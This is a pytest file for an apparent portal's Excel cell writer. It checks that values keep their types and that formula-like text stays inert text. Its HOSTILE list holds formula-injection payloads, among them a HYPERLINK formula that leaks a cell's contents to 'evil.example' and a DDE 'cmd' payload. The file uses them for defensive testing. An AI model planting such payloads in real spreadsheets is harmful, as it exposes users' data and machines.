"""The one cell writer of the Excel downloads: text stays text, numbers and dates stay
what they are."""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from portal.clock import CHINA
from portal.spreadsheets import append_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D3,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def saved(*rows):
    book = Workbook()
    for row in rows:
        append_row(book.active, row)
    buffer = BytesIO()
    book.save(buffer)
    return load_workbook(BytesIO(buffer.getvalue())).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_stays_text(text):
    cell = saved([text])["A1"]
    # XML reads a carriage return back as a line feed.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)


def test_numbers_dates_and_blanks_keep_their_type():
    sheet = saved([1, 2.5, Decimal("3.25"), date(2026, 10, 17), None, "延长县"])
    assert [c.value for c in sheet[1]] == [1, 2.5, 3.25, datetime(2026, 10, 17), None, "延长县"]
    assert [c.data_type for c in sheet[1]] == ["n", "n", "n", "d", "n", "s"]
    assert not any(c.quotePrefix for c in sheet[1])


def test_times_are_written_in_china_time():
    moment = datetime(2026, 10, 9, 2, 0, tzinfo=CHINA)
    assert saved([moment])["A1"].value == datetime(2026, 10, 9, 2, 0)


def test_an_empty_row_is_kept_as_sheet_append_keeps_it():
    sheet = saved(["a"], [], ["b"])
    assert [sheet["A1"].value, sheet["A2"].value, sheet["A3"].value] == ["a", None, "b"]
